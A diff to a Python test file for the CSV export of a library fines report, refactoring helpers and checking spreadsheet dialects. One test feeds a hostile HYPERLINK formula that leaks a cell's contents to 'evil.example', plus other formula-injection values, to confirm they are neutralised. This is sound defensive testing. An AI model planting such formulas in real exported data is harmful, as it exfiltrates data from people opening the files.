@@ -6,10 +6,12 @@ import csv
 import io
 import re
 from decimal import Decimal
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.rendered import written
 from support.report_samples import (
     blocked_report,
     changed_report,
@@ -24,7 +26,6 @@ from support.report_samples import (
 )
 
 from evergreen_groups.groups import Group
-from evergreen_groups.render.report import render
 from evergreen_groups.render.text import escape_formula
 from evergreen_groups.report import Report
 
@@ -50,24 +51,15 @@ LAST = (
     "items_lost_at_least,first_of_group"
 )
 AMOUNT_COLUMNS = {
-    "combined_fines",
-    "highest_own_fines",
-    "highest_own_fines_at_least",
-    "hidden_fines",
-    "member_own_fines",
-    "member_limit",
-    "combined_fines_before",
-    "difference",
-    "kinds_not_known",
-}
+    "combined_fines", "highest_own_fines", "highest_own_fines_at_least", "hidden_fines", "member_own_fines",
+    "member_limit", "combined_fines_before", "difference", "kinds_not_known",
+}  # fmt: skip
 FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d\d)?")
 
 
-def csv_text(report: Report, *, details: bool = True, bom: bool = False) -> str:
-    stream = io.StringIO(newline="")
-    render(report, "csv", stream, details=details, bom=bom)
-    return stream.getvalue()
+def csv_text(report: Report, **options: Any) -> str:
+    return written(report, "csv", **options)
 
 
 def rows(text: str) -> list[dict[str, str]]:
@@ -95,6 +87,7 @@ def test_one_row_for_each_member() -> None:
         assert row["member_barcode"] == (one.barcode or "")
         assert row["member_own_fines"] == f"{one.own_fines:.2f}"
         assert row["member_limit"] == "5.00"
+    assert "-3.25" in [row["member_own_fines"] for row in read], "a credit stays a number"
 
 
 def test_each_member_has_the_limit_that_counts_for_them() -> None:
@@ -177,8 +170,8 @@ def test_byte_order_mark() -> None:
 
 def test_for_spreadsheets() -> None:
     plain = csv_text(sample_report())
-    assert written(sample_report(), "spreadsheet") == "\ufeff" + plain
-    semicolons = written(sample_report(), "semicolon")
+    assert csv_text(sample_report(), dialect="spreadsheet") == "\ufeff" + plain
+    semicolons = csv_text(sample_report(), dialect="semicolon")
     assert semicolons.startswith("\ufeffgroup;lead_id;lead_name")
     read = list(csv.DictReader(io.StringIO(semicolons.removeprefix("\ufeff")), delimiter=";"))
     for one, other in zip(read, rows(plain), strict=True):
@@ -187,22 +180,11 @@ def test_for_spreadsheets() -> None:
     assert read[0]["combined_fines"] == "1289,35"
 
 
-def written(report: Report, dialect: str) -> str:
-    stream = io.StringIO(newline="")
-    render(report, "csv", stream, dialect=dialect)
-    return stream.getvalue()
-
-
-def test_credit_stays_a_number() -> None:
-    assert "-3.25" in [row["member_own_fines"] for row in rows(csv_text(sample_report()))]
-
-
 def test_formulas_are_made_harmless() -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     report = report_of([Group(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
     [row] = rows(csv_text(report))
-    assert row["member_name"] == "'" + hostile
-    assert row["lead_name"] == "'" + hostile
+    assert row["member_name"] == row["lead_name"] == "'" + hostile
     assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
 
 
